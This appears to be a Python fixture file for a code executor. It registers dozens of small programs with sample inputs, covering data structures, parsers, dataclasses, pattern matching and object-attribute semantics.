_b("lru_cache_class_with_private_ordereddict", "[('put', 1, 1), ('put', 2, 2), ('get', 1), ('put', 3, 3), ('get', 2), ('get', 3)]", """
    from collections import OrderedDict
    class LRU:
        def __init__(self, capacity):
            self._cap = capacity
            self._data = OrderedDict()
        def get(self, key):
            if key not in self._data:
                return -1
            self._data.move_to_end(key)
            return self._data[key]
        def put(self, key, value):
            self._data[key] = value
            self._data.move_to_end(key)
            if len(self._data) > self._cap:
                self._data.popitem(last=False)
    def f(ops):
        cache = LRU(2)
        out = []
        for op, *args in ops:
            r = getattr(cache, op)(*args)
            if r is not None:
                out.append(r)
        return out
""")
_b("graph_topological_sort_kahn", "{'a': ['b', 'c'], 'b': ['d'], 'c': ['d'], 'd': []}", """
    from collections import deque
    def f(graph):
        indeg = {n: 0 for n in graph}
        for outs in graph.values():
            for m in outs:
                indeg[m] += 1
        q = deque(sorted(n for n, d in indeg.items() if d == 0))
        order = []
        while q:
            n = q.popleft()
            order.append(n)
            for m in sorted(graph[n]):
                indeg[m] -= 1
                if indeg[m] == 0:
                    q.append(m)
        return order
""")
_b("graph_dijkstra_with_dataclass_nodes", "[('a', 'b', 4), ('a', 'c', 1), ('c', 'b', 2), ('b', 'd', 5)]", """
    import heapq
    from dataclasses import dataclass, field
    @dataclass(order=True)
    class Entry:
        dist: int
        node: str = field(compare=False)
    def f(edges):
        adj = {}
        for u, v, w in edges:
            adj.setdefault(u, []).append((v, w))
        dist = {'a': 0}
        pq = [Entry(0, 'a')]
        while pq:
            e = heapq.heappop(pq)
            if e.dist > dist.get(e.node, float('inf')):
                continue
            for v, w in adj.get(e.node, []):
                nd = e.dist + w
                if nd < dist.get(v, float('inf')):
                    dist[v] = nd
                    heapq.heappush(pq, Entry(nd, v))
        return dict(sorted(dist.items()))
""")
_b("union_find_with_path_compression_private", "6, [(0, 1), (1, 2), (3, 4)]", """
    class DSU:
        def __init__(self, n):
            self._parent = list(range(n))
            self._rank = [0] * n
            self.components = n
        def find(self, x):
            while self._parent[x] != x:
                self._parent[x] = self._parent[self._parent[x]]
                x = self._parent[x]
            return x
        def union(self, a, b):
            ra, rb = self.find(a), self.find(b)
            if ra == rb:
                return False
            if self._rank[ra] < self._rank[rb]:
                ra, rb = rb, ra
            self._parent[rb] = ra
            self._rank[ra] += self._rank[ra] == self._rank[rb]
            self.components -= 1
            return True
    def f(n, edges):
        d = DSU(n)
        merged = [d.union(a, b) for a, b in edges]
        return merged, d.components, d.find(2) == d.find(0)
""")
_b("dp_edit_distance_with_path", "'kitten', 'sitting'", """
    def f(a, b):
        m, n = len(a), len(b)
        dp = [[0] * (n + 1) for _ in range(m + 1)]
        for i in range(m + 1):
            dp[i][0] = i
        for j in range(n + 1):
            dp[0][j] = j
        for i in range(1, m + 1):
            for j in range(1, n + 1):
                cost = a[i - 1] != b[j - 1]
                dp[i][j] = min(dp[i - 1][j] + 1, dp[i][j - 1] + 1, dp[i - 1][j - 1] + cost)
        return dp[m][n], [row[-1] for row in dp]
""")
_b("dp_knapsack_items_namedtuple", "[('gold', 4, 10), ('silver', 3, 7), ('bronze', 2, 3)], 5", """
    from collections import namedtuple
    Item = namedtuple('Item', 'name weight value')
    def f(raw, cap):
        items = [Item(*r) for r in raw]
        best = [[0] * (cap + 1) for _ in range(len(items) + 1)]
        for i, it in enumerate(items, 1):
            for w in range(cap + 1):
                best[i][w] = best[i - 1][w]
                if it.weight <= w:
                    best[i][w] = max(best[i][w], best[i - 1][w - it.weight] + it.value)
        chosen, w = [], cap
        for i in range(len(items), 0, -1):
            if best[i][w] != best[i - 1][w]:
                chosen.append(items[i - 1].name)
                w -= items[i - 1].weight
        return best[-1][-1], chosen[::-1]
""")
_b("string_run_length_and_rotations", "'aaabccddddd'", """
    from itertools import groupby
    def f(s):
        encoded = ''.join(f'{len(list(g))}{k}' for k, g in groupby(s))
        rotations = sorted(s[i:] + s[:i] for i in range(len(s)))
        return encoded, rotations[0], max(s, key=s.count), s[::-1] == s
""")
_b("string_palindromes_and_anagrams", "['listen', 'silent', 'enlist', 'google', 'level', 'gogole']", """
    from collections import defaultdict
    def f(words):
        groups = defaultdict(list)
        for w in words:
            groups[''.join(sorted(w))].append(w)
        pals = [w for w in words if w == w[::-1]]
        return sorted(sorted(g) for g in groups.values() if len(g) > 1), pals
""")
_b("bank_simulation_with_exceptions_and_history", "[('dep', 100), ('wd', 30), ('wd', 200), ('dep', -5)]", """
    class InsufficientFunds(Exception):
        pass
    class Account:
        def __init__(self, owner):
            self.owner = owner
            self.__balance = 0
            self._history = []
        @property
        def balance(self):
            return self.__balance
        def deposit(self, amount):
            if amount <= 0:
                raise ValueError('amount must be positive')
            self.__balance += amount
            self._history.append(('+', amount))
        def withdraw(self, amount):
            if amount > self.__balance:
                raise InsufficientFunds(f'{self.owner} has only {self.__balance}')
            self.__balance -= amount
            self._history.append(('-', amount))
    def f(ops):
        acct = Account('ann')
        errors = []
        for op, amt in ops:
            try:
                (acct.deposit if op == 'dep' else acct.withdraw)(amt)
            except (ValueError, InsufficientFunds) as e:
                errors.append(f'{type(e).__name__}: {e}')
        return acct.balance, acct._history, errors
""")
_b("inventory_system_enum_dataclass_match", "[('add', 'apple', 5), ('add', 'pear', 2), ('remove', 'apple', 3), ('remove', 'kiwi', 1), ('audit',)]", """
    import enum
    from dataclasses import dataclass, field
    class Status(enum.Enum):
        OK = 'ok'
        MISSING = 'missing'
    @dataclass
    class Inventory:
        _stock: dict = field(default_factory=dict)
        def apply(self, op):
            match op:
                case ('add', name, qty):
                    self._stock[name] = self._stock.get(name, 0) + qty
                    return Status.OK
                case ('remove', name, qty) if name in self._stock:
                    self._stock[name] -= qty
                    return Status.OK
                case ('remove', _, _):
                    return Status.MISSING
                case ('audit',):
                    return sum(self._stock.values())
    def f(ops):
        inv = Inventory()
        return [r.value if isinstance(r, Status) else r for r in map(inv.apply, ops)], inv._stock
""")
_b("tokenizer_class_with_regex_and_generator", "'x = 3 + 42 * (y - 1)'", """
    import re
    from typing import NamedTuple, Iterator
    class Token(NamedTuple):
        kind: str
        text: str
    class Lexer:
        _SPEC = [('NUM', r'\\d+'), ('ID', r'[A-Za-z_]\\w*'), ('OP', r'[-+*/=()]'), ('WS', r'\\s+')]
        _RX = re.compile('|'.join(f'(?P<{k}>{p})' for k, p in _SPEC))
        def __init__(self, text):
            self._text = text
        def tokens(self) -> Iterator[Token]:
            for m in self._RX.finditer(self._text):
                if m.lastgroup != 'WS':
                    yield Token(m.lastgroup, m.group())
    def f(text):
        toks = list(Lexer(text).tokens())
        return [t.kind for t in toks], [t.text for t in toks if t.kind == 'NUM']
""")
_b("recursive_descent_parser", "'2 * (3 + 4) - 10 / 5'", """
    import re
    class Parser:
        def __init__(self, text):
            self._toks = re.findall(r'\\d+|[-+*/()]', text)
            self._pos = 0
        def _peek(self):
            return self._toks[self._pos] if self._pos < len(self._toks) else None
        def _next(self):
            tok = self._peek()
            self._pos += 1
            return tok
        def expr(self):
            value = self.term()
            while self._peek() in ('+', '-'):
                op = self._next()
                value = value + self.term() if op == '+' else value - self.term()
            return value
        def term(self):
            value = self.factor()
            while self._peek() in ('*', '/'):
                op = self._next()
                value = value * self.factor() if op == '*' else value / self.factor()
            return value
        def factor(self):
            tok = self._next()
            if tok == '(':
                v = self.expr()
                self._next()
                return v
            return int(tok)
    def f(text):
        return Parser(text).expr()
""")
_b("matrix_class_with_operators_and_fraction", "[[2, 1], [1, 3]]", """
    from fractions import Fraction
    class Matrix:
        def __init__(self, rows):
            self._rows = [[Fraction(x) for x in r] for r in rows]
        def det(self):
            (a, b), (c, d) = self._rows
            return a * d - b * c
        def inverse(self):
            (a, b), (c, d) = self._rows
            k = self.det()
            return Matrix([[d / k, -b / k], [-c / k, a / k]])
        def __mul__(self, other):
            cols = list(zip(*other._rows))
            return Matrix([[sum(x * y for x, y in zip(r, c)) for c in cols] for r in self._rows])
        def tolist(self):
            return [[str(x) for x in r] for r in self._rows]
    def f(rows):
        m = Matrix(rows)
        return str(m.det()), m.inverse().tolist(), (m * m.inverse()).tolist()
""")
_b("game_of_life_step_with_sets_of_tuples", "[(1, 0), (1, 1), (1, 2)]", """
    from collections import Counter
    def step(live):
        counts = Counter((x + dx, y + dy) for x, y in live for dx in (-1, 0, 1) for dy in (-1, 0, 1) if dx or dy)
        return {c for c, n in counts.items() if n == 3 or (n == 2 and c in live)}
    def f(cells):
        live = set(cells)
        gens = [live]
        for _ in range(2):
            gens.append(step(gens[-1]))
        return [sorted(g) for g in gens], gens[2] == gens[0]
""")
_b("state_machine_traffic_light_enum_cycle", "5", """
    import enum
    from itertools import cycle, islice
    class Light(enum.Enum):
        GREEN = 3
        YELLOW = 1
        RED = 2
    def f(n):
        timeline = []
        for light in islice(cycle(Light), n):
            timeline.extend([light.name[0]] * light.value)
        return ''.join(timeline), len(timeline)
""")
_b("priority_task_scheduler_with_total_ordering", "[('write', 2), ('test', 1), ('ship', 3), ('plan', 1)]", """
    import heapq
    from functools import total_ordering
    @total_ordering
    class Task:
        _counter = 0
        def __init__(self, name, priority):
            self.name = name
            self.priority = priority
            Task._counter += 1
            self._seq = Task._counter
        def __eq__(self, other):
            return (self.priority, self._seq) == (other.priority, other._seq)
        def __lt__(self, other):
            return (self.priority, self._seq) < (other.priority, other._seq)
    def f(tasks):
        Task._counter = 0
        heap = [Task(n, p) for n, p in tasks]
        heapq.heapify(heap)
        return [heapq.heappop(heap).name for _ in range(len(heap))]
""")
_b("text_statistics_pipeline", "'It was the best of times, it was the worst of times.'", """
    import re
    from collections import Counter
    import statistics
    def f(text):
        words = re.findall(r"[a-z']+", text.lower())
        freq = Counter(words)
        lengths = [len(w) for w in words]
        return (freq.most_common(3), statistics.mean(lengths), sorted(freq)[:3], len(set(words)),
                max(freq.items(), key=lambda kv: (kv[1], kv[0])))
""")
_b("roman_and_base_conversions", "1994", """
    def to_roman(n):
        vals = [(1000, 'M'), (900, 'CM'), (500, 'D'), (400, 'CD'), (100, 'C'), (90, 'XC'),
                (50, 'L'), (40, 'XL'), (10, 'X'), (9, 'IX'), (5, 'V'), (4, 'IV'), (1, 'I')]
        out = []
        for v, s in vals:
            q, n = divmod(n, v)
            out.append(s * q)
        return ''.join(out)
    def to_base(n, b):
        digits = '0123456789abcdefghijklmnopqrstuvwxyz'
        s = ''
        while n:
            n, r = divmod(n, b)
            s = digits[r] + s
        return s or '0'
    def f(n):
        return to_roman(n), to_base(n, 2), to_base(n, 16), int(to_base(n, 7), 7) == n
""")
_b("prime_sieve_generator_and_factorize", "60", """
    def primes():
        composites = {}
        n = 2
        while True:
            if n not in composites:
                yield n
                composites[n * n] = [n]
            else:
                for p in composites.pop(n):
                    composites.setdefault(n + p, []).append(p)
            n += 1
    def factorize(n):
        out = []
        for p in primes():
            if p * p > n:
                break
            while n % p == 0:
                out.append(p)
                n //= p
        if n > 1:
            out.append(n)
        return out
    def f(n):
        from itertools import takewhile
        return list(takewhile(lambda p: p < n // 2, primes())), factorize(n)
""")
_b("binary_search_tree_class_recursive", "[8, 3, 10, 1, 6, 14, 4, 7, 13]", """
    class BST:
        class _Node:
            __slots__ = ('key', 'left', 'right')
            def __init__(self, key):
                self.key, self.left, self.right = key, None, None
        def __init__(self):
            self._root = None
            self._size = 0
        def insert(self, key):
            def _ins(node):
                if node is None:
                    self._size += 1
                    return BST._Node(key)
                if key < node.key:
                    node.left = _ins(node.left)
                elif key > node.key:
                    node.right = _ins(node.right)
                return node
            self._root = _ins(self._root)
        def inorder(self):
            def walk(n):
                if n:
                    yield from walk(n.left)
                    yield n.key
                    yield from walk(n.right)
            return list(walk(self._root))
        def height(self, node=...):
            if node is ...:
                node = self._root
            return 0 if node is None else 1 + max(self.height(node.left), self.height(node.right))
        def __len__(self):
            return self._size
    def f(keys):
        t = BST()
        for k in keys:
            t.insert(k)
        return t.inorder(), t.height(), len(t)
""")
_b("linked_list_with_iter_and_reverse", "[1, 2, 3, 4]", """
    class LinkedList:
        class Node:
            def __init__(self, val, nxt=None):
                self.val, self.next = val, nxt
        def __init__(self, items=()):
            self._head = None
            for x in reversed(list(items)):
                self._head = self.Node(x, self._head)
        def __iter__(self):
            node = self._head
            while node:
                yield node.val
                node = node.next
        def reverse(self):
            prev, cur = None, self._head
            while cur:
                cur.next, prev, cur = prev, cur, cur.next
            self._head = prev
            return self
        def __repr__(self):
            return ' -> '.join(map(str, self)) or 'empty'
    def f(xs):
        ll = LinkedList(xs)
        before = repr(ll)
        return before, repr(ll.reverse()), repr(LinkedList())
""")
_b("interval_merge_and_sweep", "[(1, 3), (2, 6), (8, 10), (15, 18), (17, 20)]", """
    def f(intervals):
        merged = []
        for s, e in sorted(intervals):
            if merged and s <= merged[-1][1]:
                merged[-1][1] = max(merged[-1][1], e)
            else:
                merged.append([s, e])
        events = sorted([(s, 1) for s, _ in intervals] + [(e, -1) for _, e in intervals])
        cur = best = 0
        for _, d in events:
            cur += d
            best = max(best, cur)
        return merged, best
""")
_b("sliding_window_and_two_pointers", "'abcabcbb', [2, 7, 11, 15], 9", """
    def f(s, nums, target):
        seen, start, best = {}, 0, 0
        for i, c in enumerate(s):
            if seen.get(c, -1) >= start:
                start = seen[c] + 1
            seen[c] = i
            best = max(best, i - start + 1)
        lo, hi = 0, len(nums) - 1
        while lo < hi:
            t = nums[lo] + nums[hi]
            if t == target:
                break
            lo, hi = (lo + 1, hi) if t < target else (lo, hi - 1)
        return best, (lo, hi)
""")
_b("spiral_and_rotate_matrix", "3", """
    def f(n):
        m = [[r * n + c for c in range(n)] for r in range(n)]
        rotated = [list(row) for row in zip(*m[::-1])]
        out, grid = [], [row[:] for row in m]
        while grid:
            out += grid.pop(0)
            grid = [list(r) for r in zip(*grid)][::-1]
        return rotated, out
""")
_b("json_like_pretty_printer_recursive", "{'a': [1, {'b': None}], 'c': 'x'}", """
    def render(v, indent=0):
        pad = '  ' * indent
        match v:
            case dict():
                inner = [f'{pad}  {k!r}: {render(x, indent + 1).lstrip()}' for k, x in v.items()]
                return pad + '{\\n' + ',\\n'.join(inner) + '\\n' + pad + '}'
            case list():
                return pad + '[' + ', '.join(render(x).strip() for x in v) + ']'
            case None:
                return pad + 'null'
            case str():
                return pad + '"' + v + '"'
            case _:
                return pad + str(v)
    def f(data):
        return render(data).splitlines()
""")
_b("event_dispatcher_with_decorators", "['start', 'data', 'stop', 'unknown']", """
    class Dispatcher:
        def __init__(self):
            self._handlers = {}
        def on(self, event):
            def register(fn):
                self._handlers.setdefault(event, []).append(fn)
                return fn
            return register
        def emit(self, event, *args):
            handlers = self._handlers.get(event)
            if not handlers:
                return [f'no handler for {event}']
            return [h(*args) for h in handlers]
    def f(events):
        d = Dispatcher()
        @d.on('start')
        def _start():
            return 'started'
        @d.on('data')
        def _data(x=0):
            return f'data {x}'
        @d.on('data')
        def _data_twice(x=0):
            return f'again {x}'
        @d.on('stop')
        def _stop():
            return 'stopped'
        return [r for e in events for r in d.emit(e)]
""")
_b("memoized_class_method_with_private_cache", "[10, 20, 30, 10]", """
    class Fib:
        def __init__(self):
            self.__cache = {0: 0, 1: 1}
            self._hits = 0
        def get(self, n):
            if n in self.__cache:
                self._hits += 1
                return self.__cache[n]
            self.__cache[n] = self.get(n - 1) + self.get(n - 2)
            return self.__cache[n]
    def f(ns):
        fib = Fib()
        return [fib.get(n) for n in ns], fib._hits
""")
_b("vending_machine_state_pattern", "[25, 25, 'select', 10, 'refund']", """
    class State:
        def insert(self, m, coin):
            return self
        def select(self, m):
            return self
    class Idle(State):
        def insert(self, m, coin):
            m._credit += coin
            return HasCredit() if m._credit < 50 else Ready()
    class HasCredit(Idle):
        pass
    class Ready(State):
        def select(self, m):
            m._credit -= 50
            m.log.append('vend')
            return HasCredit() if m._credit else Idle()
    class Machine:
        def __init__(self):
            self._credit = 0
            self._state = Idle()
            self.log = []
        def feed(self, action):
            match action:
                case int(coin):
                    self._state = self._state.insert(self, coin)
                case 'select':
                    self._state = self._state.select(self)
                case 'refund':
                    self.log.append(f'refund {self._credit}')
                    self._credit = 0
                    self._state = Idle()
            return type(self._state).__name__
    def f(actions):
        m = Machine()
        return [m.feed(a) for a in actions], m.log
""")
_b("decimal_money_ledger", "[('coffee', '3.45'), ('bagel', '2.10'), ('tip', '0.89')]", """
    from decimal import Decimal, ROUND_HALF_UP
    def f(items):
        total = sum((Decimal(p) for _, p in items), Decimal('0'))
        tax = (total * Decimal('0.0825')).quantize(Decimal('0.01'), rounding=ROUND_HALF_UP)
        split = (total + tax) / 3
        return str(total), str(tax), str(split.quantize(Decimal('0.01'))), f'{total + tax:.2f}'
""")
_b("calendar_like_date_math_without_datetime", "2024, 2", """
    def is_leap(y):
        return y % 4 == 0 and (y % 100 != 0 or y % 400 == 0)
    def days_in(y, m):
        return [31, 29 if is_leap(y) else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][m - 1]
    def weekday(y, m, d):
        t = [0, 3, 2, 5, 0, 3, 5, 1, 4, 6, 2, 4]
        y -= m < 3
        return (y + y // 4 - y // 100 + y // 400 + t[m - 1] + d) % 7
    def f(y, m):
        names = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat']
        return days_in(y, m), names[weekday(y, m, 1)], sum(days_in(y, k) for k in range(1, 13))
""")
_b("unicode_identifiers_and_strings", "'naïve café'", """
    def f(texte):
        mots = texte.split()
        longueur = {mot: len(mot) for mot in mots}
        return longueur, texte.upper(), [ord(c) for c in texte if ord(c) > 127], texte.encode('utf-8')[:8]
""")
_b("class_with_eq_hash_used_in_sets_and_sorted", "[(1, 2), (2, 1), (1, 2), (0, 5)]", """
    class Edge:
        def __init__(self, a, b):
            self.a, self.b = min(a, b), max(a, b)
        def __eq__(self, other):
            return (self.a, self.b) == (other.a, other.b)
        def __hash__(self):
            return hash((self.a, self.b))
        def __lt__(self, other):
            return (self.a, self.b) < (other.a, other.b)
        def __repr__(self):
            return f'{self.a}-{self.b}'
    def f(pairs):
        edges = {Edge(a, b) for a, b in pairs}
        return sorted(edges), len(edges), Edge(2, 1) in edges
""")
_b("generator_based_coroutine_scheduler", "3", """
    from collections import deque
    def worker(name, n, log):
        for i in range(n):
            log.append(f'{name}{i}')
            yield
    def f(n):
        log = []
        ready = deque([worker('a', n, log), worker('b', n - 1, log)])
        while ready:
            task = ready.popleft()
            try:
                next(task)
                ready.append(task)
            except StopIteration:
                pass
        return log
""")
_b("abstract_template_method_with_private_hooks", "'report'", """
    from abc import ABC, abstractmethod
    class Exporter(ABC):
        def export(self, rows):
            return self._header() + [self._row(r) for r in rows] + self._footer()
        @abstractmethod
        def _row(self, r): ...
        def _header(self):
            return []
        def _footer(self):
            return []
    class CSV(Exporter):
        def _header(self):
            return ['name,qty']
        def _row(self, r):
            return f'{r[0]},{r[1]}'
    class Markdown(Exporter):
        def _header(self):
            return ['| name | qty |', '|---|---|']
        def _row(self, r):
            return f'| {r[0]} | {r[1]} |'
        def _footer(self):
            return [f'({self.__class__.__name__})']
    def f(title):
        rows = [('a', 1), ('b', 2)]
        return [title] + CSV().export(rows) + Markdown().export(rows)
""")

# programs that exercise the executor's own mechanisms (hash inversion, set order, augmented private writes, stand-ins)

_b("class_body_match_with_class_patterns", "0", """
    class Config:
        class Small:
            size = 1
        class Large:
            size = 10
        DEFAULT = Large()
        match DEFAULT:
            case Small():
                LABEL = 'small'
            case Large(size=s):
                LABEL = f'large {s}'
    def f(a):
        return Config.LABEL, a
""")
_b("module_level_set_membership_and_hash_in_dunder", "['red', 'blue', 'teal']", """
    class Color:
        def __init__(self, name):
            self.name = name
        def __eq__(self, other):
            return self.name == other.name
        def __hash__(self):
            return hash(self.name)
    PRIMARY = {Color('red'), Color('blue'), Color('yellow')}
    def f(names):
        return [Color(n) in PRIMARY for n in names], len(PRIMARY)
""")
_b("module_level_dict_keyed_by_strings_lookup", "['b', 'z']", """
    TABLE = {chr(97 + i): i for i in range(26)}
    WORDS = frozenset({'alpha', 'beta'})
    def f(keys):
        return [TABLE.get(k, -1) for k in keys], 'beta' in WORDS, sorted(WORDS)
""")
_b("sets_of_ints_and_tuples_iterated", "[5, 3, 9, 1, 3]", """
    def f(xs):
        s = set(xs)
        pts = {(x, x % 3) for x in xs}
        return list(s), [p for p in pts if p[1] == 0], s.pop(), list(frozenset(xs))
""")
_b("private_name_getattr_default_and_lazy_init", "3", """
    class Lazy:
        def _load(self):
            if not hasattr(self, '_data'):
                self._data = list(range(5))
                self._loads = getattr(self, '_loads', 0) + 1
            return self._data
    def f(n):
        obj = Lazy()
        for _ in range(n):
            obj._load()
        return obj._loads, getattr(obj, '_missing', 'default'), hasattr(obj, '_data')
""")
_b("vars_and_dunder_dict_of_own_objects", "'x', 1", """
    class Bag:
        def __init__(self, **kw):
            self.__dict__.update(kw)
        def __repr__(self):
            return 'Bag(' + ', '.join(f'{k}={v!r}' for k, v in sorted(vars(self).items())) + ')'
    def f(k, v):
        b = Bag(**{k: v, 'y': 2})
        setattr(b, '_z', 3)
        delattr(b, 'y')
        return repr(b), sorted(b.__dict__), type(b).__name__, Bag.__name__, Bag.__qualname__
""")
_b("super_in_classmethod_and_staticmethod_chain", "2", """
    class Base:
        registry = []
        @classmethod
        def create(cls, n):
            obj = cls()
            obj.n = n
            return obj
        @staticmethod
        def kind():
            return 'base'
    class Child(Base):
        @classmethod
        def create(cls, n):
            obj = super().create(n * 10)
            obj.extra = Base.kind() + '+' + cls.kind()
            return obj
        @staticmethod
        def kind():
            return 'child'
    def f(n):
        c = Child.create(n)
        return c.n, c.extra, type(c).__name__
""")
_b("property_deleter_and_class_property_like", "5", """
    class Widget:
        _instances = 0
        def __init__(self, size):
            type(self)._instances += 1
            self._size = size
        @property
        def size(self):
            return self._size
        @size.deleter
        def size(self):
            self._size = 0
        @classmethod
        def count(cls):
            return cls._instances
    def f(n):
        Widget._instances = 0
        ws = [Widget(i) for i in range(n)]
        del ws[-1].size
        return Widget.count(), ws[-1].size, [w.size for w in ws]
""")
_b("dataclass_private_fields_order_and_replace", "[('b', 2), ('a', 2), ('c', 1)]", """
    from dataclasses import dataclass, field, replace
    @dataclass(order=True, frozen=True)
    class Score:
        _points: int
        _name: str = field(compare=True)
        def label(self):
            return f'{self._name}:{self._points}'
    def f(pairs):
        scores = sorted(Score(p, n) for n, p in pairs)
        bumped = replace(scores[0], _points=scores[0]._points + 10)
        return [s.label() for s in scores], bumped.label(), bumped > scores[-1]
""")
_b("dataclass_slots_inheritance_with_defaults", "'k', 3", """
    from dataclasses import dataclass, field
    @dataclass(slots=True)
    class Base:
        key: str
        _hits: int = 0
    @dataclass(slots=True)
    class Cached(Base):
        values: list = field(default_factory=list)
        def hit(self):
            self._hits += 1
            return self._hits
    def f(key, n):
        c = Cached(key)
        for _ in range(n):
            c.hit()
        return repr(c), hasattr(c, '__dict__'), Cached.__slots__
""")
_b("namedtuple_private_api_in_loops", "[(1, 2), (3, 4)]", """
    from collections import namedtuple
    P = namedtuple('P', 'x y')
    def f(pairs):
        ps = [P._make(p) for p in pairs]
        moved = [p._replace(x=p.x + 1) for p in ps]
        return [p._asdict() for p in moved], P._fields, [getattr(p, f) for p in ps for f in p._fields]
""")
_b("operator_attrgetter_private_and_methodcaller", "[('b', 2), ('a', 3)]", """
    from operator import attrgetter, methodcaller, itemgetter
    class Item:
        def __init__(self, name, rank):
            self.name = name
            self._rank = rank
        def describe(self, prefix):
            return prefix + self.name
    def f(pairs):
        items = [Item(n, r) for n, r in pairs]
        by_rank = sorted(items, key=attrgetter('_rank'))
        return ([i.name for i in by_rank], list(map(methodcaller('describe', '#'), items)),
                sorted(pairs, key=itemgetter(1), reverse=True), attrgetter('name', '_rank')(items[0]))
""")
_b("augmented_assignment_on_private_attributes_all_ops", "6", """
    class Acc:
        def __init__(self):
            self._n = 1
            self._s = 'a'
            self._l = [0]
            self._set = {1}
        def run(self, k):
            self._n += k
            self._n *= 2
            self._n -= 1
            self._n //= 3
            self._n **= 2
            self._n %= 50
            self._n <<= 1
            self._n |= 1
            self._n ^= 4
            self._n &= 63
            self._n >>= 1
            self._s += 'b' * k
            self._l += [k]
            self._set |= {k}
            self._set -= {1}
            return self._n, self._s, self._l, self._set
    def f(k):
        return Acc().run(k)
""")
_b("mangled_private_augmented_in_nested_function", "4", """
    class Walker:
        def __init__(self):
            self.__steps = 0
        def walk(self, n):
            def step():
                self.__steps += 1
            for _ in range(n):
                step()
            return [self.__steps for _ in range(2)], self._Walker__steps
    def f(n):
        return Walker().walk(n)
""")
_b("class_attribute_private_augmented_through_type", "3", """
    class Node:
        _created = 0
        __ids = 0
        def __init__(self):
            type(self)._created += 1
            Node.__ids += 1
            self.id = Node.__ids
    def f(n):
        Node._created = 0
        Node._Node__ids = 0
        nodes = [Node() for _ in range(n)]
        return Node._created, [x.id for x in nodes]
""")
_b("match_recursive_with_guard_calls_and_class_patterns", "0", """
    from dataclasses import dataclass
    @dataclass
    class Leaf:
        v: int
    @dataclass
    class Branch:
        left: object
        right: object
    def total(t):
        match t:
            case Branch(l, r) if total(l) > total(r):
                return ('L', total(l) + total(r))[1]
            case Branch(l, r):
                return total(l) + total(r)
            case Leaf(v):
                return v
    def depth(t):
        match t:
            case Leaf():
                return 1
            case Branch(left=l, right=r):
                return 1 + max(depth(l), depth(r))
    def f(a):
        t = Branch(Branch(Leaf(1), Leaf(2)), Branch(Leaf(3), Branch(Leaf(4), Leaf(a))))
        return total(t), depth(t)
""")
_b("match_in_generator_and_closure", "[1, 'a', [2, 3], {'k': 4}]", """
    def flatten(items):
        for x in items:
            match x:
                case list() | tuple():
                    yield from flatten(x)
                case {'k': v}:
                    yield v
                case _:
                    yield x
    def make_classifier(kinds):
        def classify(x):
            match x:
                case int():
                    return kinds[0]
                case str():
                    return kinds[1]
            return kinds[2]
        return classify
    def f(items):
        c = make_classifier(['num', 'text', 'other'])
        return list(flatten(items)), [c(x) for x in flatten(items)]
""")
_b("format_map_with_missing_and_format_dunder", "{'name': 'Bo'}", """
    class Default(dict):
        def __missing__(self, key):
            return '{' + key + '}'
    class Temp:
        def __init__(self, c):
            self.c = c
        def __format__(self, spec):
            if spec.endswith('F'):
                return f'{self.c * 9 / 5 + 32:{spec[:-1]}f}F'
            return f'{self.c:{spec}}C'
    def f(d):
        return ['Hi {name}, you owe {amount}'.format_map(Default(d)), f'{Temp(21.5):.1F}', format(Temp(3), '>5'),
                '{0:.0F}'.format(Temp(100))]
""")
_b("typing_dataclass_with_string_annotations_future", "'n1'", """
    from __future__ import annotations
    from dataclasses import dataclass, field
    from typing import Optional
    @dataclass
    class TreeNode:
        name: str
        parent: Optional[TreeNode] = None
        children: list[TreeNode] = field(default_factory=list)
        def add(self, name: str) -> TreeNode:
            child = TreeNode(name, self)
            self.children.append(child)
            return child
        def path(self) -> str:
            return self.name if self.parent is None else self.parent.path() + '/' + self.name
    def f(name):
        root = TreeNode('root')
        leaf = root.add(name).add('leaf')
        return leaf.path(), sorted(TreeNode.__annotations__), TreeNode.__annotations__['parent']
""")
_b("enum_with_private_ignore_and_auto_values", "0", """
    import enum
    class Weekday(enum.IntEnum):
        _ignore_ = ['_i']
        MON = enum.auto()
        TUE = enum.auto()
        WED = enum.auto()
        @classmethod
        def weekend_after(cls, day):
            return cls((day % len(cls)) + 1)
    def f(a):
        return [d.name for d in Weekday], Weekday.weekend_after(Weekday.WED).name, Weekday.TUE + a, Weekday.MON._value_
""")
_b("exception_context_and_cause_attributes", "'7x'", """
    class ConfigError(Exception):
        pass
    def load(s):
        try:
            return int(s)
        except ValueError as e:
            raise ConfigError(f'bad value {s!r}') from e
    def f(s):
        try:
            load(s)
        except ConfigError as e:
            try:
                raise RuntimeError('wrapped')
            except RuntimeError as r:
                return (str(e), type(e.__cause__).__name__, r.__context__ is e, e.__suppress_context__,
                        isinstance(e.__cause__, ValueError))
""")
_b("weak_hash_none_and_unhashable_objects", "[[1], [2]]", """
    class Mutable:
        def __init__(self, v):
            self.v = v
        def __eq__(self, other):
            return self.v == other.v
    def f(vals):
        objs = [Mutable(v) for v in vals]
        try:
            {objs[0]}
            hashable = True
        except TypeError as e:
            hashable = str(e)
        return hashable, Mutable.__hash__ is None, objs[0] == Mutable([1])
""")
